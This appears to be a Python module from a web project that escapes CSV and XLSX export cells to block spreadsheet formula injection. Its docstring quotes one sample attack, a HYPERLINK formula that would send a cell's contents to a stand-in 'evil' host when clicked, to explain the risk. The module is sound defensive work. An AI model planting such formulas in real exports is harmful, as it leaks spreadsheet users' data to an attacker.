"""THE one way cells are written into CSV and XLSX downloads: user text is text, never a formula.

Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or carriage return, whatever
follows) as a formula — `=HYPERLINK("http://evil/?"&A1, "点击")` in a report line would become a live link in every
owner's download. `neutralise` prefixes such text with an apostrophe (the usual spreadsheet "this is text" mark),
leaving plain numbers such as "-12.50" alone (a number is not a formula). XLSX cells are additionally written with
the string type, so openpyxl never stores them as formulas.

Every CSV/XLSX writer of the project goes through here: `csv_bytes` for CSV, `new_workbook` + `append_row` (or
`set_cell`) for XLSX. tests/core/test_exports.py fails when code elsewhere creates a csv writer or a Workbook.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)")


def neutralise(value: Any) -> str:
    """`value` as text that no spreadsheet evaluates: a leading = + - @ (also fullwidth) tab/CR/LF gets a `'`."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def cell_value(value: Any) -> Any:
    """What to put in a cell: numbers, dates and booleans as they are; everything else neutralised text."""
    if value is None or isinstance(value, bool | int | float | Decimal | dt.date | dt.datetime):
        return value
    return neutralise(value)


# --- CSV ----------------------------------------------------------------------------------------------------------


def csv_bytes(header: Sequence[Any], rows: Iterable[Sequence[Any]], *, bom: bool = True) -> bytes:
    """CSV for Excel and scripts: UTF-8 (with a BOM unless told otherwise), CRLF line ends, every text cell
    neutralised."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([neutralise(h) for h in header])
    for row in rows:
        writer.writerow(["" if c is None else neutralise(c) for c in row])
    return (("\ufeff" if bom else "") + out.getvalue()).encode("utf-8")


# --- XLSX ---------------------------------------------------------------------------------------------------------


def new_workbook():
    """An empty openpyxl Workbook (write its cells with `append_row` / `set_cell`)."""
    from openpyxl import Workbook

    return Workbook()


def set_cell(ws, row: int, column: int, value: Any):
    """Write one cell: text as a string cell (never a formula), numbers/dates as values."""
    cell = ws.cell(row=row, column=column)
    value = cell_value(value)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def append_row(ws, cells: Sequence[Any]) -> int:
    """Append a row after the last one (an empty `cells` leaves a blank row); returns its row number."""
    values = [cell_value(c) for c in cells]
    ws.append(values)
    row = ws.max_row if values else 0
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            ws.cell(row=row, column=column).data_type = "s"
    return row
